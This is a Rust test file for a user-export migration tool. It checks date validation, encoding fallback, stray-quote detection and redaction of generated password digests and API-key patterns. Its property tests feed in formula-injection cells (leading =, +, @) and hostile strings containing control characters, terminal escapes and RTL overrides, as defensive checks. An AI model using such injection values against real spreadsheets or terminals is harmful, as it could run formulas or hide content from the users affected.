// 10. created_at: RFC 3339, a real calendar date, a sane range; the warning says which.

#[test]
fn impossible_creation_dates_are_left_out_and_say_why() {
    let dates = [
        ("1e300", Some("after 2099")),
        ("-5", Some("before 1970")),
        ("2024-13-45T99:99:99Z", Some("no real day")),
        ("0000-00-00T00:00:00Z", Some("no real day")),
        ("2023-02-29T12:00:00Z", Some("no real day")),
        ("1969-12-31T23:59:59Z", Some("before 1970")),
        ("2024-01-01T00:00:00+25:00", Some("no real day")),
        ("yesterday", Some("is not a date")),
        ("2024-02-29T12:00:00.123+02:00", None),
        ("1700000000", None),
        ("1700000000123", None),
    ];
    let mut export = String::from("id,username,created_at\n");
    for (i, (date, _)) in dates.iter().enumerate() {
        export += &format!("user_{i},user_name_{i},{date}\n");
    }
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    let users: Vec<serde_json::Value> =
        serde_json::from_slice(&prepared.file("users.json").unwrap().bytes).unwrap();
    for (i, (date, why)) in dates.iter().enumerate() {
        let warning = prepared
            .issues
            .iter()
            .find(|issue| issue.row == i + 2 && issue.code.as_str() == "invalid_created_at");
        match why {
            Some(why) => {
                let message = warning
                    .unwrap_or_else(|| panic!("{date} passed"))
                    .message(Lang::En);
                assert!(message.contains(why), "{date}: {message}");
                assert!(users[i].get("createdAt").is_none(), "{date}");
                let es = warning.unwrap().message(Lang::Es);
                assert_ne!(message, es);
            }
            None => {
                assert!(warning.is_none(), "{date}");
                assert!(users[i].get("createdAt").is_some(), "{date}");
            }
        }
    }
}

// 9. A byte-order mark followed by bytes of another encoding.

#[test]
fn a_utf8_mark_before_windows_1252_bytes_changes_no_name() {
    let prepared = prepare(
        b"\xEF\xBB\xBFid,first_name,username\nuser_1,Jos\xE9,jose_1\n",
        &PrepareOptions::default(),
    )
    .unwrap();
    let users = String::from_utf8(prepared.file("users.json").unwrap().bytes.clone()).unwrap();
    assert!(users.contains("\"firstName\":\"José\""), "{users}");
    assert!(!users.contains('\u{FFFD}'));
    assert!(prepared
        .notices
        .iter()
        .any(|n| n.code.as_str() == "decoded_windows_1252"));

    let err = prepare(
        b"\xEF\xBB\xBFid,first_name,username\nuser_1,Jos\xC3\xA9,jose_1\nuser_2,Jos\xE9,jose_2\n",
        &PrepareOptions::default(),
    )
    .unwrap_err();
    let message = err.message(Lang::En);
    assert!(message.contains("Line 3 "), "{message}");
    assert!(err.message(Lang::Es).contains("La línea 3 "));
}

// 8. An unbalanced quote: found, said where it opened, never "every row accepted".

#[test]
fn a_stray_quote_in_the_header_is_refused_with_its_line() {
    let export = "# export\nid,first_name,\"last_name,username,primary_email_address\nuser_1,Ada,Lovelace,ada1,ada@example.com\nuser_2,Grace,Hopper,grace,grace@example.com\n";
    let err = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap_err();
    assert!(
        err.message(Lang::En).contains("line 2 opens a quote"),
        "{}",
        err.message(Lang::En)
    );
    assert!(err.message(Lang::Es).contains("línea 2"));
    let dir = scratch("header-quote");
    let csv = write(&dir, "users.csv", export);
    let out = cli(&[
        "prepare",
        csv.to_str().unwrap(),
        "--out",
        dir.join("o").to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(!dir.join("o").exists());
}

#[test]
fn a_stray_quote_in_a_row_rejects_it_and_names_the_lines_it_swallowed() {
    let mut export = String::from("id,first_name,last_name,username,primary_email_address\n");
    export += "user_1,Ada,Lovelace,ada1,ada@example.com\n";
    export += "user_2,\"Grace,Hopper,grace,grace@example.com\n";
    for i in 3..8 {
        export += &format!("user_{i},N{i},L{i},name{i},u{i}@example.com\n");
    }
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    assert_eq!(prepared.counts.rejected, 1);
    let issue = prepared
        .issues
        .iter()
        .find(|i| i.code.as_str() == "unclosed_quote")
        .expect("the stray quote is found");
    assert_eq!(issue.row, 3);
    let message = issue.message(Lang::En);
    assert!(
        message.contains("\"first_name\"") && message.contains("line 8"),
        "{message}"
    );
    let runbook = String::from_utf8_lossy(&prepared.file(MIGRATION_MD).unwrap().bytes).into_owned();
    assert!(!runbook.contains("Every row was accepted"));
    // A quote that closes rows later, in another row's name.
    let export =
        "id,first_name,username\nuser_1,\"Ada,ada1\nuser_2,Grace,grace\nuser_3,Alan\",alan\n";
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    assert_eq!(prepared.counts.rejected, 1, "{:?}", prepared.issues);
    // A stray quote in the last row: the end of the file leaves it open, with no line break
    // to show for it.
    let export = "id,first_name,last_name,username,primary_email_address\nuser_1,Ada,Lovelace,ada1,ada@example.com\nuser_2,\"Grace,Hopper,grace,grace@example.com\n";
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    let issue = prepared
        .issues
        .iter()
        .find(|i| i.code.as_str() == "unclosed_quote")
        .expect("the stray quote in the last row is found");
    assert_eq!(issue.row, 3);
    let message = issue.message(Lang::En);
    assert!(
        message.contains("\"first_name\"") && message.contains("the file ends inside it"),
        "{message}"
    );
    assert!(issue.message(Lang::Es).contains("el archivo termina"));
    // A header that ends inside a quote, with no row after it, is no export of 0 rows.
    let err = prepare(b"id,\"username\n", &PrepareOptions::default()).unwrap_err();
    assert!(err.message(Lang::En).contains("line 1 opens a quote"));
    // A name over two lines is no stray quote.
    let export = "id,first_name,username\nuser_1,\"Ada\nKing\",ada1\nuser_2,Grace,grace\n";
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    assert_eq!((prepared.counts.rows, prepared.counts.rejected), (2, 0));
}

// The redaction mechanism, over generated secrets in generated positions.

mod generated {
    use super::*;
    use proptest::prelude::*;

    fn digest() -> impl Strategy<Value = String> {
        prop_oneof![
            "\\$2[abxy]\\$1[0-2]\\$[./A-Za-z0-9]{53}",
            "bcrypt_sha256\\$\\$2b\\$12\\$[./A-Za-z0-9]{53}",
            "\\$2b\\$10\\$[./A-Za-z0-9]{53}\\$[A-Za-z0-9]{8,16}",
            "[0-9a-f]{32}",
            "[0-9a-f]{64}",
            "[A-Za-z0-9]{6,16}\\$[0-9a-f]{32}",
            "[A-Za-z0-9]{6,16}\\$[0-9a-f]{64}",
            "pbkdf2_sha(1|256|512)\\$[0-9]{4,6}\\$[A-Za-z0-9]{8,16}\\$[A-Za-z0-9+/]{43}=",
            "pbkdf2_sha512_hex\\$[0-9]{4,6}\\$[0-9a-f]{16,32}\\$[0-9a-f]{64}",
            "\\$[PH]\\$[A-Z][./A-Za-z0-9]{30}",
            "[A-Za-z0-9+/]{40,86}==\\$[A-Za-z0-9+/]{12,22}==\\$[A-Za-z0-9+/]{20,40}==\\$Bw==\\$8\\$14",
            "scrypt:32768:8:1\\$[A-Za-z0-9]{12,16}\\$[0-9a-f]{64}",
            "\\$argon2i?d?\\$v=19\\$m=[0-9]{4,5},t=[1-4],p=[1-4]\\$[A-Za-z0-9+/]{16,22}\\$[A-Za-z0-9+/]{32,43}",
            "sha512_symfony\\$[0-9]{4}\\$[A-Za-z0-9]{12}\\$[A-Za-z0-9+/]{86}",
            "awscognito#us-east-1_[A-Za-z0-9]{9}#[a-z0-9]{26}#[a-z0-9]{8,16}",
        ]
    }

    fn key() -> impl Strategy<Value = String> {
        prop_oneof![
            "sk_(test|live)_[A-Za-z0-9]{30,50}",
            "pk_(test|live)_[A-Za-z0-9]{24,48}",
        ]
    }

    /// The 13 cells of a row, with secrets put where a shifted or careless file puts them.
    fn export() -> impl Strategy<Value = (String, Vec<String>)> {
        (
            digest(),
            "[A-Z2-7]{16,32}",
            key(),
            prop::collection::vec((0usize..13, 0usize..3), 0..4),
            0usize..3,
            any::<bool>(),
        )
            .prop_map(|(digest, totp, key, moves, commas, key_in_header)| {
                let mut cells: Vec<String> = [
                    "user_1",
                    "Ada",
                    "Lovelace",
                    "ada_l",
                    "ada@example.com",
                    "",
                    "",
                    "",
                    "",
                    "",
                    &totp,
                    &digest,
                    "bcrypt",
                ]
                .iter()
                .map(|s| s.to_string())
                .collect();
                for (column, which) in moves {
                    cells[column] = [&digest, &totp, &key][which].clone();
                }
                // Unquoted commas in the first name move every later cell along.
                for _ in 0..commas {
                    cells.insert(2, "Jr".into());
                }
                let header = if key_in_header {
                    format!("{HEADER},{key}")
                } else {
                    HEADER.to_string()
                };
                let quoted: Vec<String> = cells
                    .iter()
                    .map(|c| {
                        if c.contains([',', '"']) {
                            format!("\"{}\"", c.replace('"', "\"\""))
                        } else {
                            c.clone()
                        }
                    })
                    .collect();
                let text = format!("{header}\n{}\n", quoted.join(","));
                (text, vec![digest, totp, key])
            })
    }

    fn hostile_text() -> impl Strategy<Value = String> {
        prop_oneof![
            "[`|<>*_#~&!:/.\\[\\]()\\\\\n\r\t\u{1b}\u{7}\u{9b}\u{202e} a-z]{1,24}",
            "\\PC{1,16}",
            any::<String>().prop_filter("not empty", |s| !s.is_empty()),
        ]
    }

    /// A document with `value` in every position a user's value takes in the reports.
    fn document(value: &str) -> String {
        use clerk_dev2prod::core::escape::{md_cell_code, md_code, md_text};
        let text = md_text(&format!("x{value}x"));
        format!(
            "# Title\n\n- {} (row 2): {text}\n- {} → {}\n\n| user | field | dev |\n|---|---|---|\n| {} | name | {text} |\n| {} | name | {} |\n\nEnd {text}.\n",
            md_code(value),
            md_code(value),
            md_code(value),
            md_cell_code(value),
            md_cell_code(value),
            md_text(&format!("x{value}x")),
        )
    }

    proptest! {
        #[test]
        fn a_neutralised_cell_reads_back_as_the_cell_and_runs_no_formula(
            cell in "[\t\r '=+@＝＋－＠a-c-]{0,8}"
        ) {
            use clerk_dev2prod::core::emit::neutralise;
            use clerk_dev2prod::core::record::clean_cell;
            let written = neutralise(&cell);
            prop_assert_eq!(clean_cell(&written), clean_cell(&cell));
            let text = written.trim_start_matches(['\t', '\r', '\n', ' ']);
            prop_assert!(!text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']));
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn no_secret_piece_or_control_character_in_any_shown_text(
            before in hostile_text(),
            secret in prop_oneof![digest(), key(), "[A-Z2-7]{16,32}"],
            after in hostile_text(),
        ) {
            use clerk_dev2prod::core::escape::shown;
            let schemes = ["bcrypt_sha256$", "pbkdf2_sha512_hex$", "pbkdf2_sha1$", "pbkdf2_sha256$",
                "pbkdf2_sha512$", "sha512_symfony$", "scrypt:32768:8:1$", "awscognito#"];
            let bare = schemes.iter().find_map(|p| secret.strip_prefix(p)).unwrap_or(&secret);
            let text = shown(format!("{before} {secret} {after}"));
            assert_no_piece("the shown text", &text, &[bare]);
            assert_no_control("the shown text", &text);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]

        #[test]
        fn no_value_adds_markdown_structure_or_control_characters(value in hostile_text()) {
            let doc = document(&value);
            prop_assert_eq!(md_shape(&doc), md_shape(&document("y")), "{}", doc);
            assert_no_control("the document", &doc);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(48))]

        #[test]
        fn reconcile_md_keeps_its_shape_for_any_value(
            dev_id in hostile_text(),
            prod_id in hostile_text(),
            error in hostile_text(),
            name in hostile_text(),
        ) {
            let dev_id = format!("user_{dev_id}");
            let prod_id = format!("user_2{prod_id}");
            let name = format!("N{name}");
            let hostile = reconcile_md(&dev_id, &prod_id, "user_zz", &error, &name);
            let plain = reconcile_md("user_m", "user_2p", "user_zz", "failed", "Grace B");
            prop_assert_eq!(md_shape(&hostile), md_shape(&plain), "{}", hostile);
            assert_no_control("reconcile.md", &hostile);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn no_piece_of_a_secret_in_any_message((text, secrets) in export()) {
            // The name of a digest's scheme is no secret (the messages name hashers).
            let schemes = [
                "bcrypt_sha256$", "pbkdf2_sha512_hex$", "pbkdf2_sha1$", "pbkdf2_sha256$",
                "pbkdf2_sha512$", "sha512_symfony$", "scrypt:32768:8:1$", "awscognito#",
            ];
            let secrets: Vec<&str> = secrets
                .iter()
                .map(|s| schemes.iter().find_map(|p| s.strip_prefix(p)).unwrap_or(s))
                .collect();
            match prepare(text.as_bytes(), &PrepareOptions::default()) {
                Ok(prepared) => assert_no_piece("the outputs", &readable(&prepared), &secrets),
                Err(err) => {
                    for lang in Lang::ALL {
                        assert_no_piece("the error", &err.message(lang), &secrets);
                    }
                }
            }
        }

        #[test]
        fn no_piece_of_a_key_in_any_key_finding(
            keys in prop::collection::vec(key(), 1..4),
            separators in prop::collection::vec(prop_oneof![
                Just("\": \""), Just("': '"), Just(": "), Just("="), Just("\"=\""), Just(" ")
            ], 3),
        ) {
            let mut line = String::from("{\"CLERK_KEYS\": {\"");
            for (i, key) in keys.iter().enumerate() {
                line += key;
                line += separators[i % separators.len()];
            }
            line += "\"}}\n";
            let report = check_keys(&[KeyFile { service: "svc.json".into(), bytes: line.into_bytes() }]);
            let secrets: Vec<&str> = keys.iter().map(String::as_str).collect();
            let mut all = format!("{:?}", report.checklist());
            for key in &report.keys {
                all += &format!("{} {} {:?}", key.variable, key.masked, key.host);
            }
            for finding in &report.findings {
                for lang in Lang::ALL {
                    all += finding.message(lang);
                    all += finding.fix(lang);
                }
            }
            assert_no_piece("the key report", &all, &secrets);
        }
    }
}
